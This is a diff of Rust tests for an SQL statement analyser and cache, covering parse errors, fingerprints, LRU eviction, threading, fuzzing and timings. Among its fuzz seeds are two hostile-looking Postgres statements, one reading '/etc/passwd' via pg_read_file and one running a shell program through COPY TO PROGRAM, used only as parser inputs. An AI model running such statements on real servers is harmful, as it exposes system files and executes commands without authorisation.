+    // Each statement of a multi-statement text has its own.
+    let all = statements("select * from t where id = 1; select * from t where id = 7");
+    assert_eq!(all[0].fingerprint, base);
+    assert_eq!(all[1].fingerprint, base);
+}
+
+#[test]
+fn unparsable_text_gives_the_parsers_message() {
+    for (sql, message) in [
+        ("selec 1", "syntax error at or near \"selec\""),
+        ("select 1; selec 2", "syntax error at or near \"selec\""),
+        ("SELECT 'unterminated", "unterminated quoted string"),
+        ("SELECT * FROM", "syntax error at end of input"),
+        ("select 1 /* open", "unterminated /* comment"),
+        ("select \0", "NUL byte at offset 7"),
+    ] {
+        match analyze(sql) {
+            Analysis::Unparsable { error } => {
+                assert!(error.contains(message), "{sql:?}: {error}");
+            }
+            parsed => panic!("{sql:?} parsed: {parsed:?}"),
+        }
+    }
+}
+
+#[test]
+fn empty_text_gives_no_statements() {
+    for sql in [
+        "",
+        "   \n\t",
+        "-- just a comment",
+        "/* c */",
+        ";",
+        " ; ;; ",
+        "/* a */ ; -- b",
+    ] {
+        assert_eq!(
+            analyze(sql),
+            Analysis::Parsed {
+                statements: Vec::new()
+            },
+            "{sql:?}"
+        );
+    }
+}
+
+#[test]
+fn analysis_serializes_with_a_result_tag() {
+    let json = serde_json::to_value(analyze("delete from t")).unwrap();
+    assert_eq!(json["result"], "parsed");
+    assert_eq!(json["statements"][0]["kind"], "delete");
+    assert_eq!(json["statements"][0]["flags"]["no_where"], true);
+    let json = serde_json::to_value(analyze("selec")).unwrap();
+    assert_eq!(json["result"], "unparsable");
+}
+
+#[test]
+fn cache_hits_return_the_same_analysis() {
+    let cache = AnalysisCache::new(8);
+    assert!(cache.is_empty());
+    let first = cache.analyze("select * from t");
+    let again = cache.analyze("select * from t");
+    assert!(Arc::ptr_eq(&first, &again));
+    assert_eq!(cache.len(), 1);
+    // Exact text: another spelling is another entry.
+    let other = cache.analyze("SELECT * FROM t");
+    assert!(!Arc::ptr_eq(&first, &other));
+    let (Analysis::Parsed { statements: a }, Analysis::Parsed { statements: b }) =
+        (&*first, &*other)
+    else {
+        panic!("did not parse");
+    };
+    assert_eq!(
+        (&a[0].tables_read, &a[0].fingerprint),
+        (&b[0].tables_read, &b[0].fingerprint)
+    );
+    assert_ne!(a[0].text, b[0].text);
+    assert_eq!(cache.len(), 2);
+    // Unparsable text is cached too.
+    let bad = cache.analyze("selec");
+    assert!(Arc::ptr_eq(&bad, &cache.analyze("selec")));
+}
+
+#[test]
+fn cache_respects_its_capacity() {
+    let cache = AnalysisCache::new(2);
+    let a = cache.analyze("select 1");
+    let _b = cache.analyze("select 2");
+    // Touch "select 1" so that "select 2" is the least recently used.
+    assert!(Arc::ptr_eq(&a, &cache.analyze("select 1")));
+    let _c = cache.analyze("select 3");
+    assert_eq!(cache.len(), 2);
+    assert!(Arc::ptr_eq(&a, &cache.analyze("select 1")));
+    let b_again = cache.analyze("select 2");
+    assert!(!Arc::ptr_eq(&_b, &b_again), "select 2 was evicted");
+    assert_eq!(cache.len(), 2);
+    assert_eq!(cache.capacity(), 2);
+}
+
+#[test]
+fn cache_skips_long_texts_and_zero_capacity() {
+    let cache = AnalysisCache::new(4);
+    let long = format!("select 1 {}", " ".repeat(MAX_CACHED_TEXT_LEN));
+    let first = cache.analyze(&long);
+    assert!(matches!(&*first, Analysis::Parsed { statements } if statements.len() == 1));
+    assert_eq!(cache.len(), 0);
+
+    let off = AnalysisCache::new(0);
+    let x = off.analyze("select 1");
+    assert!(!Arc::ptr_eq(&x, &off.analyze("select 1")));
+    assert_eq!((off.len(), off.capacity()), (0, 0));
+}
+
+#[test]
+fn cache_is_shared_across_threads() {
+    let cache = Arc::new(AnalysisCache::new(64));
+    let handles: Vec<_> = (0..4)
+        .map(|t| {
+            let cache = Arc::clone(&cache);
+            std::thread::spawn(move || {
+                for i in 0..50 {
+                    let sql = format!("select {}", (i + t) % 20);
+                    assert!(matches!(&*cache.analyze(&sql), Analysis::Parsed { .. }));
+                }
+            })
+        })
+        .collect();
+    for handle in handles {
+        handle.join().unwrap();
+    }
+    assert_eq!(cache.len(), 20);
+}
+
+/// Every prefix of these statements (cut at each char boundary), and a set
+/// of mutations of them, must analyse without panicking.
+#[test]
+fn any_prefix_or_mutation_analyses_without_panic() {
+    let seeds = [
+        "WITH d AS (DELETE FROM \"Ünïcode\" WHERE x = 'é€😀' RETURNING *) SELECT * FROM d; UPDATE t SET a = $1",
+        "COPY (SELECT * FROM a JOIN b USING (id)) TO PROGRAM 'gzip > /tmp/x.gz' WITH (FORMAT csv)",
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.del THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
+        "EXPLAIN (ANALYZE, FORMAT json) DELETE FROM ünï.\"tåble\" WHERE CURRENT OF c;",
+        "DO $body$ BEGIN RAISE NOTICE '%', E'a\\'b;'; END $body$; /* nested /* comment */ */ SELECT 1",
+        "DROP TABLE IF EXISTS a, \"B\".c CASCADE; GRANT SELECT ON ALL TABLES IN SCHEMA s TO r; BEGIN; SAVEPOINT x",
+        "SELECT pg_read_file('/etc/passwd'), set_config('a', 'b', true) FROM generate_series(1, 3) g(i) -- end",
+        "PREPARE p(int) AS UPDATE t SET a = (SELECT max(b) FROM u WHERE u.c = $1); EXECUTE p(1); DEALLOCATE p",
+    ];
+    let mut calls = 0usize;
+    for seed in seeds {
+        for (cut, _) in seed.char_indices().chain([(seed.len(), ' ')]) {
+            let _ = analyze(&seed[..cut]);
+            let _ = analyze(&seed[cut..]);
+            calls += 2;
+        }
+    }
+    // Deterministic mutations: replace, drop or duplicate a char.
+    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut next = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let alphabet: Vec<char> = "();'\"$*/-\\ \nEé😀0aZ_.,[]".chars().collect();
+    for seed in seeds {
+        let chars: Vec<char> = seed.chars().collect();
+        for _ in 0..40 {
+            let mut mutated = chars.clone();
+            for _ in 0..1 + next() % 3 {
+                let at = (next() % mutated.len() as u64) as usize;
+                let c = alphabet[(next() % alphabet.len() as u64) as usize];
+                match next() % 3 {
+                    0 => mutated[at] = c,
+                    1 => {
+                        mutated.remove(at);
+                    }
+                    _ => mutated.insert(at, c),
+                }
+            }
+            let text: String = mutated.into_iter().collect();
+            let _ = analyze(&text);
+            calls += 1;
+        }
+    }
+    assert!(calls > 1000);
+}
+
+/// Deep nesting ends in an error or a result, not a crash: the parser
+/// bounds its stack, the tree decoder its recursion.
+#[test]
+fn deep_nesting_is_bounded() {
+    for depth in [10, 60, 200, 2000] {
+        let sum = format!("{}1{}", "(1 + ".repeat(depth), ")".repeat(depth));
+        let calls = format!("{}1{}", "f(".repeat(depth), ")".repeat(depth));
+        let selects = format!("{}1{}", "(SELECT ".repeat(depth), ")".repeat(depth));
+        for sql in [
+            format!("SELECT {sum}"),
+            format!("EXPLAIN SELECT {sum}"),
+            format!("EXPLAIN SELECT {selects}"),
+            format!("DELETE FROM t WHERE id IN {selects} RETURNING {calls}"),
+            format!("WITH d AS (DELETE FROM t RETURNING 1) SELECT {calls}"),
+        ] {
+            match analyze(&sql) {
+                Analysis::Parsed { statements } => assert_eq!(statements.len(), 1),
+                Analysis::Unparsable { error } => {
+                    eprintln!("DEEP {depth} {}: {error}", &sql[..12]);
+                    assert!(!error.is_empty())
+                }
+            }
+        }
+    }
+}
+
+/// Per-statement costs; run with
+/// `cargo test -p tollgate-agent sql::tests::costs -- --ignored --nocapture`.
+#[test]
+#[ignore = "prints timings; run by hand"]
+fn costs() {
+    // The best of five batches: the machine is shared, and the minimum is
+    // the least disturbed.
+    fn time(label: &str, n: u32, mut f: impl FnMut()) {
+        for _ in 0..n / 10 {
+            f();
+        }
+        let mut best = f64::MAX;
+        for _ in 0..5 {
+            let start = Instant::now();
+            for _ in 0..n {
+                f();
+            }
+            best = best.min(start.elapsed().as_secs_f64() * 1e6 / f64::from(n));
+        }
+        println!("{label:<44} {best:>8.2} us");
+    }
+    let simple = "SELECT abalance FROM pgbench_accounts WHERE aid = 48213";
+    let join = "SELECT o.id, c.name, p.title FROM orders o JOIN customers c ON c.id = o.customer_id \
+                JOIN products p ON p.id = o.product_id WHERE o.created_at > now() - interval '1 day' \
+                AND c.region = 'eu'";
+    let update = "UPDATE pgbench_accounts SET abalance = abalance + 42 WHERE aid = 48213";
+    let n = 400;
+    for (name, sql) in [
+        ("simple select", simple),
+        ("3-table join", join),
+        ("pgbench update", update),
+    ] {
+        time(&format!("pg_query::summary      {name}"), n, || {
+            let _ = pg_query::summary(sql, 0, -1);
+        });
+        time(&format!("pg_query::fingerprint  {name}"), n, || {
+            let _ = pg_query::fingerprint(sql, 0, 0);
+        });
+        time(&format!("pg_query::parse        {name}"), n / 4, || {
+            let _ = pg_query::parse(sql, 0);
+        });
+        time(&format!("pg_query::split        {name}"), n, || {
+            let _ = pg_query::split_with_parser(sql);
+        });
+        time(&format!("pg_query::scan_tokens  {name}"), n, || {
+            let _ = pg_query::scan_tokens(sql);
+        });
+        time(&format!("sql::analyze           {name}"), n, || {
+            let _ = analyze(sql);
+        });
+    }
+    time("sql::analyze           BEGIN (tree path)", n, || {
+        let _ = analyze("BEGIN");
+    });
+    time("sql::analyze           DROP TABLE (tree path)", n, || {
+        let _ = analyze("DROP TABLE a, b");
+    });
+    time("sql::analyze           2 statements", n, || {
+        let _ = analyze("select 1; select 2");
+    });
+    let cache = AnalysisCache::new(1024);
+    cache.analyze(join);
+    time("AnalysisCache::analyze hit (3-table join)", n * 50, || {
+        let _ = cache.analyze(join);
+    });
+}
